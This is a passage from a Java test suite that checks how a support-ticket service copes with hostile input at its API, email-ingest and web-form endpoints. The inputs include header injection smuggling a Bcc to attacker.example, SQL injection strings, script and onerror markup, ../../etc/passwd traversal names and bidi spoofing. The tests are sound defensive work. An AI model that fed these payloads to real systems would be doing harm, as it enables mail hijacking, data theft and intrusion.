					Multipart m = withRequest(request(r -> {
					}));
					m.raw("Content-Disposition: form-data; name=\"files\"; filename*=UTF-8''evil%0D%0ABcc%3A%20x.txt\r\n"
							+ "Content-Type: text/plain\r\n\r\nlog line\r\n");
					return multipart(m);
				}, stored("select a.filename from attachment a join issue i on i.id = a.issue_id where i.issue_key = ?",
						"evilBcc: x.txt")),
				api("files", "a file name with a raw CR/LF in the part header", created(), f -> {
					Multipart m = withRequest(request(r -> {
					}));
					m.raw("Content-Disposition: form-data; name=\"files\"; filename=\"evil\r\nBcc: x.txt\"\r\n"
							+ "Content-Type: text/plain\r\n\r\nlog line\r\n");
					return multipart(m);
				}, (fixture, response, key) -> assertThat(fixture.test().jdbc
					.sql("select a.filename from attachment a join issue i on i.id = a.issue_id where i.issue_key = ?")
					.param(key)
					.query(String.class)
					.list()).singleElement(InstanceOfAssertFactories.STRING)
					.doesNotContain("\r", "\n", "Bcc")));
	}

	private static List<Case> followUps() {
		return List.of(
				follow("no token", refused(401), f -> followJson(f.issue().key(), null, "{\"text\": \"Here is the MSN.\"}")),
				follow("a wrong token", refused(401),
						f -> followJson(f.issue().key(), "not-the-token", "{\"text\": \"Here is the MSN.\"}")),
				follow("SQL as the token", refused(401),
						f -> followJson(f.issue().key(), "' OR '1'='1", "{\"text\": \"Here is the MSN.\"}")),
				follow("another issue's token", refused(401),
						f -> followJson(f.issue().key(), f.otherIssue().token(), "{\"text\": \"Here is the MSN.\"}")),
				follow("a token of 6 KB", refused(401),
						f -> followJson(f.issue().key(), "t".repeat(6000), "{\"text\": \"Here is the MSN.\"}")),
				follow("a token with raw non-ASCII bytes", refused(401),
						f -> followJson(f.issue().key(), "tøken\u00ff", "{\"text\": \"Here is the MSN.\"}")),
				follow("an unknown key", refused(404),
						f -> followJson("VSD-999999999", f.issue().token(), "{\"text\": \"Here is the MSN.\"}")),
				follow("a key that is SQL", refused(404),
						f -> followJson("VSD-1'%20OR%20'1'='1", f.issue().token(), "{\"text\": \"Here is the MSN.\"}")),
				// The token is checked on the headers, before the body is read (FollowUpTokenGate).
				follow("broken JSON with a wrong token", refused(401),
						f -> followJson(f.issue().key(), "wrong", "{\"text\": ")),
				follow("broken JSON", refused(400), f -> followJson(f.issue().key(), f.issue().token(), "{\"text\": ")),
				follow("an empty object", refused(400), f -> followJson(f.issue().key(), f.issue().token(), "{}")),
				follow("only white space", refused(400),
						f -> followJson(f.issue().key(), f.issue().token(), "{\"text\": \" \\n\\t \"}")),
				follow("a NUL in the text", refused(400),
						f -> followJson(f.issue().key(), f.issue().token(), "{\"text\": \"a\\u0000b\"}")),
				follow("the reporter's address changed (unknown field)", refused(400),
						f -> followJson(f.issue().key(), f.issue().token(),
								"{\"text\": \"x\", \"reporter\": {\"email\": \"evil@attacker.example\"}}")),
				follow("10,000 CC addresses", refused(400),
						f -> followJson(f.issue().key(), f.issue().token(),
								"{\"cc\": [" + IntStream.range(0, 10_000).mapToObj(n -> "\"cc" + n + "@shop.no\"")
									.collect(Collectors.joining(",")) + "]}")),
				follow("50 new CC addresses: 51 participants", refused(409),
						f -> followJson(f.issue().key(), f.issue().token(),
								"{\"cc\": [" + IntStream.range(0, 50).mapToObj(n -> "\"cc" + n + "@shop.no\"")
									.collect(Collectors.joining(",")) + "]}")),
				follow("CC with CR/LF", refused(400),
						f -> followJson(f.issue().key(), f.issue().token(),
								"{\"cc\": [\"ola@shop.no\\r\\nBcc: evil@attacker.example\"]}")),
				follow("invalid UTF-8", refused(400),
						f -> Request.post("/api/v1/issues/" + f.issue().key() + "/messages", "application/json",
								concat(utf8("{\"text\": \"a"), new byte[] { (byte) 0xFF, '"', '}' }),
								"Follow-Up-Token: " + f.issue().token())),
				follow("a body of 26 MB", refused(413),
						f -> followJson(f.issue().key(), f.issue().token(),
								"{\"text\": \"" + "x".repeat(26 * 1024 * 1024) + "\"}")),
				follow("script and markup in the text", appended(),
						f -> followJson(f.issue().key(), f.issue().token(),
								"{\"text\": \"" + SCRIPT.replace("\"", "\\\"") + " here is the MSN 123456\"}"),
						stored("select body from message m join issue i on i.id = m.issue_id where i.issue_key = ? "
								+ "order by m.created_at desc, m.id desc limit 1", SCRIPT + " here is the MSN 123456")),
				follow("SQL in the text and the orderId", appended(),
						f -> followJson(f.issue().key(), f.issue().token(),
								"{\"text\": \"x\", \"orderId\": \"" + SQL.replace("\\", "\\\\").replace("\"", "\\\"") + "\"}"),
						stored("select order_id from issue where issue_key = ?", SQL)),
				follow("bidi override in the reporter's name", appended(),
						f -> followJson(f.issue().key(), f.issue().token(),
								"{\"reporter\": {\"name\": \"Kari \\u202Eevil\\u202C\"}}"),
						mailHeadersAreOneLine()),
				follow("multipart: a script declared as image/png", refused(400),
						f -> followMultipart(f, new Multipart().part("files", "shot.png", "image/png", SCRIPT_FILE))),
				follow("multipart: nothing in it", refused(400), f -> followMultipart(f, new Multipart())),
				follow("multipart: 11 files", refused(400), f -> {
					Multipart m = new Multipart();
					for (int i = 0; i < 11; i++) {
						m.part("files", "shot" + i + ".png", "image/png", PNG);
					}
					return followMultipart(f, m);
				}),
				follow("multipart: a file named ../../etc/passwd", appended(),
						f -> followMultipart(f, new Multipart().part("files", "../../etc/passwd", "text/plain", utf8("x"))),
						stored("select a.filename from attachment a join issue i on i.id = a.issue_id where i.issue_key = ?",
								"passwd")),
				follow("multipart: a screenshot alone", appended(),
						f -> followMultipart(f, new Multipart().part("files", "shot.png", "image/png", PNG)),
						attachments(1)),
				follow("multipart: no token", refused(401), f -> {
					Multipart m = new Multipart().json("request", "{\"text\": \"x\"}");
					return Request.post("/api/v1/issues/" + f.issue().key() + "/messages", m.contentType(), m.bytes());
				}));
	}

	private static List<Case> inboundEmail() {
		List<Case> cases = new ArrayList<>();
		cases.add(mail("no API key", refused(401), f -> Request.post("/api/v1/inbound-email", "message/rfc822",
				f.mail("Plain", "text/plain", "Hello."))));
		cases.add(mail("an API key without mail:ingest", refused(403),
				f -> Request.post("/api/v1/inbound-email", "message/rfc822", f.mail("Plain", "text/plain", "Hello."),
						"Authorization: Bearer " + f.readKey())));
		cases.add(mail("a malformed API key", refused(401),
				f -> Request.post("/api/v1/inbound-email", "message/rfc822", f.mail("Plain", "text/plain", "Hello."),
						"Authorization: Bearer td_'; DROP TABLE api_key; --")));
		cases.add(mail("declared as JSON", refused(415),
				f -> f.ingest("application/json", utf8("{\"from\": \"x\"}"))));
		cases.add(mail("larger than the request limit (26 MB)", refused(413),
				f -> f.ingest(f.mail("Huge", "text/plain", "x".repeat(26 * 1024 * 1024)))));
		cases.add(mail("larger than the mail limit (21 MB)", mailLogged("REJECTED_TOO_LARGE"),
				f -> f.ingest(f.mail("Huge", "text/plain", "x".repeat(21 * 1024 * 1024)))));
		cases.add(mail("an empty body", refused(400), f -> f.ingest(new byte[0])));
		cases.add(mail("binary garbage", mailLogged("QUARANTINED_LOOP"), f -> {
			byte[] noise = new byte[4096];
			new Random(7).nextBytes(noise);
			return f.ingest(noise);
		}));
		cases.add(mail("headers of 200 KB", mailLogged("FAILED"),
				f -> f.ingest(f.mail("Big headers", "text/plain", "Hello.", "X-Filler: " + "a".repeat(200 * 1024)))));
		cases.add(mail("5,000 header lines", mailIssue(),
				f -> f.ingest(f.mail("Many headers", "text/plain", DESCRIPTION,
						IntStream.range(0, 5_000).mapToObj(n -> "X-H" + n + ": v").collect(Collectors.joining("\r\n"))))));
		cases.add(mail("a subject of 150 KB as encoded words", mailLogged("FAILED"),
				f -> f.ingest(f.mailWithRawSubject("=?UTF-8?B?" + Base64.getEncoder().encodeToString(utf8("a".repeat(110 * 1024)))
						+ "?=", "text/plain", "Hello."))));
		cases.add(mail("10,000 CC addresses", mailLogged("FAILED"),
				f -> f.ingest(f.mail("Many copies", "text/plain", DESCRIPTION,
						"Cc: " + IntStream.range(0, 10_000).mapToObj(n -> "cc" + n + "@shop.no").collect(Collectors.joining(", "))))));
		cases.add(mail("4,000 CC addresses: the first 49 join", mailIssue(),
				f -> f.ingest(f.mail("Many copies", "text/plain", DESCRIPTION,
						"Cc: " + IntStream.range(0, 4_000).mapToObj(n -> "c" + n + "@shop.no").collect(Collectors.joining(",")))),
				participants(50)));
		cases.add(mail("malformed addresses in To and Cc", mailIssue(),
				f -> f.ingest(f.mail("Odd copies", "text/plain", DESCRIPTION,
						"Cc: <<<>>>, kari@, @shop.no, \"a\r\n b\"@shop.no, ola@shop.no, =?UTF-8?Q?evil=0D=0A?= <x@y.example>")),
				participants(3)));
		cases.add(mail("a sender that is not an address", mailLogged("QUARANTINED_LOOP"),
				f -> f.ingest(utf8("From: not an address\r\nTo: support@localhost\r\nSubject: hi\r\nMessage-ID: <"
						+ f.unique() + "@x>\r\n\r\nHello.\r\n"))));
		cases.add(mail("an encoded CR/LF and Bcc in the subject", mailIssue(),
				f -> f.ingest(f.mailWithRawSubject("=?UTF-8?Q?Payments_fail=0D=0ABcc:_evil@attacker.example?=", "text/plain",
						DESCRIPTION)),
				stored("select subject from issue where issue_key = ?", "Payments fail Bcc: evil@attacker.example")));
		cases.add(mail("an encoded CR/LF and Bcc in the sender's name", mailIssue(),
				f -> f.ingest(f.mailFrom("=?UTF-8?Q?Kari=0D=0ABcc=3A_evil=40attacker.example?=", "Odd name", "text/plain",
						DESCRIPTION)),
				mailHeadersAreOneLine()));
		// A colon and an @ unencoded in a display name make it unparseable: no sender, never answered.
		cases.add(mail("a sender's name that breaks the address syntax", mailLogged("QUARANTINED_LOOP"),
				f -> f.ingest(f.mailFrom("=?UTF-8?Q?Kari=0D=0ABcc:_evil@attacker.example?=", "Odd name", "text/plain",
						DESCRIPTION))));
		cases.add(mail("script and markup in the text part", mailIssue(),
				f -> f.ingest(f.mail("Markup", "text/plain", DESCRIPTION + " " + SCRIPT)),
				stored("select description from issue where issue_key = ?", DESCRIPTION + " " + SCRIPT)));
		cases.add(mail("an HTML-only mail with scripts and handlers", mailIssue(),
				f -> f.ingest(f.mail("HTML only", "text/html; charset=utf-8",
						"<p>" + DESCRIPTION + "</p><script>alert(1)</script><img src=x onerror=alert(2)>"))));
		cases.add(mail("SQL in the subject", mailIssue(),
				f -> f.ingest(f.mail(SUBJECT + " " + SQL, "text/plain", DESCRIPTION)),
				stored("select subject from issue where issue_key = ?", SUBJECT + " " + SQL)));
		cases.add(mail("NUL bytes in the text", mailIssue(),
				f -> f.ingest(f.mail("NULs", "text/plain", "Hello\u0000 there\u0000. " + DESCRIPTION))));
		cases.add(mail("invalid UTF-8 declared as UTF-8", mailIssue(),
				f -> f.ingest(concat(f.mail("Bad bytes", "text/plain; charset=utf-8", DESCRIPTION),
						new byte[] { (byte) 0xFF, (byte) 0xC0, (byte) 0x80, '\r', '\n' }))));
		cases.add(mail("an unknown charset", mailIssue(),
				f -> f.ingest(f.mail("Odd charset", "text/plain; charset=x-evil-7", DESCRIPTION))));
		cases.add(mail("an unknown transfer encoding", mailIssue(),
				f -> f.ingest(f.mail("Odd encoding", "text/plain", DESCRIPTION, "Content-Transfer-Encoding: x-evil"))));
		cases.add(mail("broken base64", mailIssue(),
				f -> f.ingest(f.mail("Broken base64", "text/plain", "!!!!not*base64====@@@@\r\n%%%%",
						"Content-Transfer-Encoding: base64"))));
		cases.add(mail("multipart without a boundary", mailIssue(),
				f -> f.ingest(f.mail("No boundary", "multipart/mixed", "--x\r\n\r\nHello\r\n--x--"))));
		cases.add(mail("multipart nested 50 deep", mailIssue(), f -> f.ingest(f.mime("Deep", nested(50)))));
		cases.add(mail("multipart nested 1,500 deep", mailLogged("FAILED"), f -> f.ingest(f.mime("Deeper", nested(1500)))));
		cases.add(mail("1,500 parts", mailIssue(), f -> f.ingest(f.mime("Many parts", manyParts(1500)))));
		cases.add(mail("5,000 parts", mailLogged("FAILED"), f -> f.ingest(f.mime("More parts", manyParts(5000)))));
		cases.add(mail("forwarded mails nested 30 deep", mailIssue(), f -> f.ingest(f.mime("Forwarded", forwarded(30)))));
		cases.add(mail("a base64 attachment of 14 MB decoded", mailIssue(),
				f -> f.ingest(f.mime("Big file", attachment("big.log", "text/plain",
						Base64.getMimeEncoder().encodeToString(new byte[14 * 1024 * 1024])))),
				attachments(0)));
		cases.add(mail("an attachment named ../../etc/passwd", mailIssue(),
				f -> f.ingest(f.mime("Path", attachment("../../etc/passwd.txt", "text/plain",
						Base64.getMimeEncoder().encodeToString(utf8("log line"))))),
				stored("select a.filename from attachment a join issue i on i.id = a.issue_id where i.issue_key = ?",
						"passwd.txt")));
		cases.add(mail("an attachment name with an encoded NUL and CR/LF", mailIssue(),
				f -> f.ingest(f.mime("Odd name", attachment("=?UTF-8?Q?a=00b=0D=0Ac.txt?=", "text/plain",
						Base64.getMimeEncoder().encodeToString(utf8("log line"))))),
				stored("select a.filename from attachment a join issue i on i.id = a.issue_id where i.issue_key = ?",
						"a b c.txt")));
		cases.add(mail("a script declared as image/png", mailIssue(),
				f -> f.ingest(f.mime("Fake image", attachment("shot.png", "image/png",
						Base64.getMimeEncoder().encodeToString(SCRIPT_FILE)))),
				attachments(0)));
		cases.add(mail("an auto-reply", mailLogged("QUARANTINED_LOOP"),
				f -> f.ingest(f.mail("Out of office", "text/plain", "Away.", "Auto-Submitted: auto-replied"))));
		return cases;
	}

	private static List<Case> webPages() {
		List<Case> cases = new ArrayList<>();
		cases.add(web("send without a CSRF token", refused(403), f -> Request.post("/requests",
				"application/x-www-form-urlencoded", form(Map.of("subject", SUBJECT, "description", DESCRIPTION, "email",
						"kari@shop.no")))));
		cases.add(web("send with a forged CSRF token", refused(403), f -> Request.post("/requests",
				"application/x-www-form-urlencoded", form(Map.of("subject", SUBJECT, "description", DESCRIPTION, "email",
						"kari@shop.no", "_csrf", "forged")))));
		cases.add(web("send an empty form", page(400), f -> f.send(Map.of())));
		cases.add(web("send a NUL in the subject", page(400),
				f -> f.send(Map.of("subject", "a\u0000b", "description", DESCRIPTION, "email", "kari@shop.no"))));
		cases.add(web("send a malformed address", page(400),
				f -> f.send(Map.of("subject", SUBJECT, "description", DESCRIPTION, "email", "kari@shop.no\r\nBcc: x@y.no"))));
		cases.add(web("send 10,000 CC addresses", page(400),
				f -> f.send(Map.of("subject", SUBJECT, "description", DESCRIPTION, "email", "kari@shop.no", "cc",
						IntStream.range(0, 10_000).mapToObj(n -> "cc" + n + "@shop.no").collect(Collectors.joining(", "))))));
		cases.add(web("send invalid percent-encoding", page(400),
				f -> f.sendRaw("subject=%FF%FE&description=%C0%80&email=kari%40shop.no")));
		cases.add(web("send a broken percent-escape", page(400), f -> f.sendRaw("subject=%Z&description=%&email=%")));
		cases.add(web("a browser form: the CSRF token in the body, escapes that are not UTF-8", refused(400),
				f -> Request.post("/requests", "application/x-www-form-urlencoded", utf8("subject=%FF&description=x&email="
						+ "kari%40shop.no&_csrf=" + encode(f.csrfToken())))));
		// The CSRF filter reads the form first: Tomcat's limit is met there, answered before the page.
		cases.add(web("a browser upload: the CSRF token in the body, a file of 11 MB", refused(413), f -> {
			Multipart m = new Multipart().part("_csrf", null, null, utf8(f.csrfToken()))
				.part("subject", null, null, utf8(SUBJECT))
				.part("files", "big.log", "text/plain", new byte[11 * 1024 * 1024]);
			return Request.post("/requests", m.contentType(), m.bytes());
		}));
		cases.add(web("send a description over the limit", page(400),
				f -> f.send(Map.of("subject", SUBJECT, "description", "x".repeat(200_001), "email", "kari@shop.no"))));
		cases.add(web("send a form of 26 MB", refused(413),
				f -> f.sendRaw("subject=a&description=" + "x".repeat(26 * 1024 * 1024))));
		cases.add(web("send a form of 3 MB (over Tomcat's 2 MB form limit)", page(413),
				f -> f.sendRaw("subject=a&email=kari%40shop.no&description=" + "x".repeat(3 * 1024 * 1024))));
		cases.add(web("send script and markup in every field", pageCreated(),
				f -> f.send(Map.of("subject", SUBJECT + " " + SCRIPT, "description", DESCRIPTION + " " + SCRIPT, "name",
						SCRIPT, "email", "kari@shop.no", "phone", "<img src=x onerror=alert(1)>", "organizationNumber", SCRIPT,
						"orderId", SCRIPT,
						"httpRequest", "GET /x HTTP/1.1 " + SCRIPT, "httpResponse", "HTTP/1.1 400 " + SCRIPT,
						"additionalInfo", SCRIPT)),
				stored("select subject from issue where issue_key = ?", SUBJECT + " " + SCRIPT)));
		cases.add(web("send SQL in every field", pageCreated(),
				f -> f.send(Map.of("subject", SUBJECT + " " + SQL, "description", DESCRIPTION + " " + SQL, "name", SQL,
						"email", "kari@shop.no", "orderId", SQL, "merchantSerialNumber", SQL)),
				stored("select order_id from issue where issue_key = ?", SQL)));
		cases.add(web("send bidi and zero-width characters", pageCreated(),
				f -> f.send(Map.of("subject", SUBJECT + " \u202Egnp.exe", "description", DESCRIPTION + " \u200B\u2066x\u2069",
						"email", "kari@shop.no")),
				stored("select subject from issue where issue_key = ?", SUBJECT + " \u202Egnp.exe")));
		cases.add(web("send a script as a PNG", page(400),
				f -> f.sendMultipart(Map.of("subject", SUBJECT, "description", DESCRIPTION, "email", "kari@shop.no"),
						m -> m.part("files", "shot.png", "image/png", SCRIPT_FILE))));
		cases.add(web("send a ZIP file", page(415),
				f -> f.sendMultipart(Map.of("subject", SUBJECT, "description", DESCRIPTION, "email", "kari@shop.no"),
						m -> m.part("files", "logs.zip", "application/zip", new byte[] { 'P', 'K', 3, 4 }))));
		cases.add(web("send 11 files", page(400),
				f -> f.sendMultipart(Map.of("subject", SUBJECT, "description", DESCRIPTION, "email", "kari@shop.no"), m -> {
					for (int i = 0; i < 11; i++) {
						m.part("files", "shot" + i + ".png", "image/png", PNG);
					}
				})));
		cases.add(web("send a file of 11 MB", page(413),
				f -> f.sendMultipart(Map.of("subject", SUBJECT, "description", DESCRIPTION, "email", "kari@shop.no"),
						m -> m.part("files", "big.log", "text/plain", new byte[11 * 1024 * 1024]))));
		cases.add(web("send a malformed multipart body", page(400),
				f -> f.csrf(Request.post("/requests", "multipart/form-data; boundary=abc", utf8("--abc\r\nbroken")))));
		cases.add(web("send a file named ../../etc/passwd", pageCreated(),
				f -> f.sendMultipart(Map.of("subject", SUBJECT, "description", DESCRIPTION, "email", "kari@shop.no"),
						m -> m.part("files", "../../etc/passwd", "text/plain", utf8("root:x:0:0"))),
				stored("select a.filename from attachment a join issue i on i.id = a.issue_id where i.issue_key = ?",
						"passwd")));
		cases.add(web("check with script and markup", pageChecked(),
				f -> f.check(Map.of("subject", SCRIPT, "description", SCRIPT, "email", "kari@shop.no", "httpRequest",
						SCRIPT))));
		cases.add(web("check with a NUL", pageChecked(),
				f -> f.check(Map.of("subject", "a\u0000b", "description", "x\u0000", "email", "kari@shop.no"))));
		cases.add(web("check with 10,000 CC addresses", pageChecked(),
				f -> f.check(Map.of("subject", SUBJECT, "description", DESCRIPTION, "email", "kari@shop.no", "cc",
						IntStream.range(0, 10_000).mapToObj(n -> "cc" + n + "@shop.no").collect(Collectors.joining(" "))))));
		cases.add(web("check without a CSRF token", refused(403),
				f -> Request.post("/check", "application/x-www-form-urlencoded", form(Map.of("subject", "x")))));
		cases.add(web("status page with a wrong token", page(404), f -> Request.get("/requests/" + f.issue().key()
				+ "?token=wrong")));
		cases.add(web("status page without a token", page(404), f -> Request.get("/requests/" + f.issue().key())));
		cases.add(web("status page with SQL as the token", page(404),
				f -> Request.get("/requests/" + f.issue().key() + "?token=" + encode("' OR '1'='1' --"))));
		cases.add(web("status page with markup as the key", page(404),
				f -> Request.get("/requests/" + encode("<img src=x onerror=alert(1)>") + "?token=x")));
		cases.add(web("status page with a token of 7 KB", page(404),
				f -> Request.get("/requests/" + f.issue().key() + "?token=" + "a".repeat(7000))));
		cases.add(web("status page with an undecodable token", page(400),
				f -> Request.get("/requests/" + f.issue().key() + "?token=%FF%FE")));
		cases.add(web("status page with the token twice", page(404),
				f -> Request.get("/requests/" + f.issue().key() + "?token=wrong&token=" + f.issue().token())));
		cases.add(web("follow-up form with a wrong token", pageRedirected(), f -> f.csrf(Request.post(
				"/requests/" + f.issue().key(), "application/x-www-form-urlencoded", form(Map.of("token", "wrong", "text",
						"Here is the MSN."))))));
		cases.add(web("follow-up form without a token", page(400), f -> f.csrf(Request.post(
				"/requests/" + f.issue().key(), "application/x-www-form-urlencoded", form(Map.of("text", "Hi."))))));
		cases.add(web("follow-up form with a NUL", pageRedirected(), f -> f.csrf(Request.post(
				"/requests/" + f.issue().key(), "application/x-www-form-urlencoded", form(Map.of("token", f.issue().token(),
						"text", "a\u0000b"))))));
		cases.add(web("follow-up form with 10,000 CC addresses", pageRedirected(), f -> f.csrf(Request.post(
				"/requests/" + f.issue().key(), "application/x-www-form-urlencoded", form(Map.of("token", f.issue().token(),
						"cc", IntStream.range(0, 10_000).mapToObj(n -> "cc" + n + "@shop.no").collect(Collectors.joining(","))))))));
		cases.add(web("follow-up form with a script as a PNG", pageRedirected(), f -> {
			Multipart m = new Multipart().part("token", null, null, utf8(f.issue().token()))
				.part("files", "shot.png", "image/png", SCRIPT_FILE);
			return f.csrf(Request.post("/requests/" + f.issue().key(), m.contentType(), m.bytes()));
		}));
		cases.add(web("follow-up form with script and markup", pageAppended(), f -> f.csrf(Request.post(
				"/requests/" + f.issue().key(), "application/x-www-form-urlencoded", form(Map.of("token", f.issue().token(),
						"text", SCRIPT + " and the MSN is 123456", "name", SCRIPT))))));
		return cases;
	}

	private static List<Case> oddPaths() {
		String valid = request(r -> {
		});
		return List.of(
				odd("PUT on the requests", refused(405), f -> postJson(valid).withMethod("PUT")),
				odd("DELETE on the requests", refused(405), f -> postJson(valid).withMethod("DELETE")),
				odd("GET on the requests", refused(405), f -> Request.get("/api/v1/requests")),
				odd("an unknown method", refused(400), f -> postJson(valid).withMethod("FOO")),
				odd("TRACE", refused(405), f -> Request.get("/api/v1/requests").withMethod("TRACE")),
				odd("a trailing slash", refused(404), f -> Request.post("/api/v1/requests/", "application/json", valid)),
				odd("upper case", refused(404), f -> Request.post("/api/v1/REQUESTS", "application/json", valid)),
				odd("a matrix parameter", refused(400),
						f -> Request.post("/api/v1/requests;jsessionid=x", "application/json", valid)),
				odd("an encoded NUL", refused(400), f -> Request.post("/api/v1/requests%00", "application/json", valid)),
				odd("an encoded slash and dots", refused(400),
						f -> Request.post("/api/v1/requests/..%2F..%2Fissues", "application/json", valid)),
				odd("dot segments", refused(400),
						f -> Request.post("/api/v1/requests/../../../etc/passwd", "application/json", valid)),
				odd("an encoded backslash", refused(400),
						f -> Request.post("/api/v1/requests%5C..%5Cx", "application/json", valid)),
				odd("a URL of 20 KB", refused(400), f -> Request.get("/api/v1/requests/" + "a".repeat(20_000))),
				odd("a raw non-ASCII byte in the path", refused(400),
						f -> Request.post("/api/v1/requests\u00ff", "application/json", valid)),
				// The parameter is never read: the request itself is fine.
				odd("an undecodable query string", created(),
						f -> Request.post("/api/v1/requests?x=%FF%FE", "application/json", valid)),
				odd("an issue key with CR/LF encoded", refused(400),
						f -> Request.get("/api/v1/issues/VSD-100001%0D%0ASet-Cookie:x=y")),
				// Without a token or key an unknown issue is a 404 (keys are sequential; existence is no secret).
				odd("an issue key with markup", refused(404),
						f -> Request.get("/api/v1/issues/" + encode("<img src=x onerror=alert(1)>"))),
				odd("the error page itself", refused(404), f -> Request.get("/error")),
				odd("an unknown API path with an encoded semicolon", refused(400), f -> Request.get("/api/v1/" + encode("'; DROP TABLE issue; --"))),
				// Tomcat unfolds it (RFC 9112 allows replacing the fold with a space): not strict, created.
				odd("a folded header line", created(),
						f -> postJson(valid).with("Prefer: handling=strict", " continued")),
				odd("a header name with a space", refused(400), f -> postJson(valid).with("Bad Header: x")),
				odd("two Content-Length headers that differ", refused(400),
						f -> postJson(valid).with("Content-Length: 3")),
				odd("an Idempotency-Key of 300 characters", refused(400),
						f -> postJson(valid).with("Idempotency-Key: " + "k".repeat(300))),
				odd("an Idempotency-Key with non-ASCII", refused(400),
						f -> postJson(valid).with("Idempotency-Key: nøkkel")),
				web("POST on the request page itself", refused(405), f -> f.csrf(Request.post("/",
						"application/x-www-form-urlencoded", utf8("subject=x")))),
				web("an encoded NUL in a page address", refused(400), f -> Request.get("/requests/VSD-100001%00?token=x")),
				web("dot segments in a page address", refused(400), f -> Request.get("/requests/..%2F..%2Fdashboard")),
				web("a matrix parameter in a page address", refused(400), f -> Request.get("/requests/VSD-100001;x=y?token=x")),
				web("an unknown language", pageShown(), f -> Request.get("/?lang=%3Cscript%3E")));
	}

	// ---- building cases ------------------------------------------------------------------

	enum Outcome {

		REFUSED, CHECKED, ISSUE_CREATED, MESSAGE_ADDED, MAIL_LOGGED, MAIL_NEW_ISSUE

	}

	/**
	 * @param form {@code problem} (application/problem+json), {@code html}, or {@code redirect} (the
	 * page's redirect back to where its error is shown)
	 */
	record Expect(Outcome outcome, int status, String form, String mail) {

		@Override
		public String toString() {
			return outcome + (outcome == Outcome.REFUSED ? " " + status : "") + (mail == null ? "" : " " + mail);
		}

	}

	@FunctionalInterface
	interface Check {

		void verify(Fixture fixture, Response response, String issueKey);

		Check NONE = (fixture, response, key) -> {
		};

	}

	record Case(String name, boolean web, Expect expect, Function<Fixture, Request> request, Check check) {

		@Override
		public String toString() {
			return name + " → " + expect;
		}

	}

	private static Expect refused(int status) {
		return new Expect(Outcome.REFUSED, status, "problem", null);
	}

	private static Expect page(int status) {
		return new Expect(Outcome.REFUSED, status, "html", null);
	}

	private static Expect pageRedirected() {
		return new Expect(Outcome.REFUSED, 302, "redirect", null);
	}

	private static Expect pageShown() {
		return new Expect(Outcome.CHECKED, 200, "html", null);
	}

	private static Expect created() {
		return new Expect(Outcome.ISSUE_CREATED, 201, "json", null);
	}

	private static Expect pageCreated() {
		return new Expect(Outcome.ISSUE_CREATED, 302, "redirect", null);
	}

	private static Expect pageChecked() {
		return new Expect(Outcome.CHECKED, 200, "html", null);
	}

	private static Expect appended() {
		return new Expect(Outcome.MESSAGE_ADDED, 201, "json", null);
	}

	private static Expect pageAppended() {
		return new Expect(Outcome.MESSAGE_ADDED, 302, "redirect", null);
	}

	private static Expect mailLogged(String outcome) {
		return new Expect(Outcome.MAIL_LOGGED, 200, "json", outcome);
	}

	private static Expect mailIssue() {
		return new Expect(Outcome.MAIL_NEW_ISSUE, 200, "json", "NEW_ISSUE");
	}

	private static Case api(String family, String name, Expect expect, Function<Fixture, Request> request) {
		return api(family, name, expect, request, Check.NONE);
	}

	private static Case api(String family, String name, Expect expect, Function<Fixture, Request> request, Check check) {
		return new Case("POST /api/v1/requests " + family + ": " + name, false, expect, request, check);
	}

	private static Case odd(String name, Expect expect, Function<Fixture, Request> request) {
		return new Case("odd request line or headers: " + name, false, expect, request, Check.NONE);
	}

	private static Case follow(String name, Expect expect, Function<Fixture, Request> request) {
		return follow(name, expect, request, Check.NONE);
	}

	private static Case follow(String name, Expect expect, Function<Fixture, Request> request, Check check) {
		return new Case("POST /api/v1/issues/{key}/messages: " + name, false, expect, request, check);
	}

	private static Case mail(String name, Expect expect, Function<Fixture, Request> request) {
		return mail(name, expect, request, Check.NONE);
	}

	private static Case mail(String name, Expect expect, Function<Fixture, Request> request, Check check) {
		return new Case("POST /api/v1/inbound-email: " + name, false, expect, request, check);
	}

	private static Case web(String name, Expect expect, Function<Fixture, Request> request) {
		return web(name, expect, request, Check.NONE);
	}

	private static Case web(String name, Expect expect, Function<Fixture, Request> request, Check check) {
		return new Case("web: " + name, true, expect, request, check);
	}

	private static Case fileName(String sent, String kept) {
		return api("files", "file name " + printable(abbreviate(sent)), created(),
				f -> multipart(withRequest(request(r -> {
				})).part("files", sent, "text/plain", utf8("log line"))),
				stored("select a.filename from attachment a join issue i on i.id = a.issue_id where i.issue_key = ?", kept));
	}

	// ---- checks after an accepted case ---------------------------------------------------

	private static Check stored(String sql, String expected) {
		return (fixture, response, key) -> assertThat(fixture.test().jdbc.sql(sql).param(key).query(String.class).list())
			.as("stored as sent").containsExactly(expected);
	}

	private static Check storedIn(String field, String value) {
		return switch (field) {
			case "reporter.name", "reporter.phone" -> stored("select " + field.substring(9) + " from participant p join issue i "
					+ "on i.id = p.issue_id where i.issue_key = ? and p.role = 'REPORTER'", value);
			case "occurredOn" -> stored("select occurred_on[1] from issue where issue_key = ?", value);
			case "httpExchange.request" -> stored("select http_request from issue where issue_key = ?", value);
			case "httpExchange.response" -> stored("select http_response from issue where issue_key = ?", value);
			default -> stored("select " + snake(field) + " from issue where issue_key = ?", value);
		};
	}

	/** Fields both the status page and the dashboard show. */
	private static final Set<String> SHOWN = Set.of("subject", "description", "reporter.name");

	/**
	 * The reporter's status page and the dashboard show the value as text: the markup is there to
	 * read, and nothing of it became an element.
	 */
	private static Check shownAsText(String value) {
		return (fixture, response, key) -> {
			String token = JSON.readTree(response.body()).get("followUpToken").asString();
			Response status = visitor.send(Request.get("/requests/" + key + "?token=" + encode(token)));
			Response dashboard = agent.send(Request.get("/dashboard/issues/" + key));
			assertThat(Jsoup.parse(status.body()).text()).as("status page text").contains(value);
			assertThat(Jsoup.parse(dashboard.body()).text()).as("dashboard text").contains(value);
		};
	}

	private static Check participants(int expected) {
		return (fixture, response, key) -> assertThat(fixture.test().jdbc
			.sql("select count(*) from participant p join issue i on i.id = p.issue_id where i.issue_key = ?")
			.param(key)
			.query(Long.class)
			.single()).as("participants").isEqualTo(expected);
	}

	private static Check attachments(int expected) {
		return (fixture, response, key) -> assertThat(fixture.test().jdbc
			.sql("select count(*) from attachment a join issue i on i.id = a.issue_id where i.issue_key = ?")
			.param(key)
			.query(Long.class)
			.single()).as("attachments").isEqualTo(expected);
	}

	/**
	 * Every mail queued for the issue has its subject and addresses on one line, and nobody the
	 * request tried to smuggle in as a recipient.
	 */
	private static Check mailHeadersAreOneLine() {
		return (fixture, response, key) -> {
			List<Map<String, Object>> mails = fixture.test().jdbc
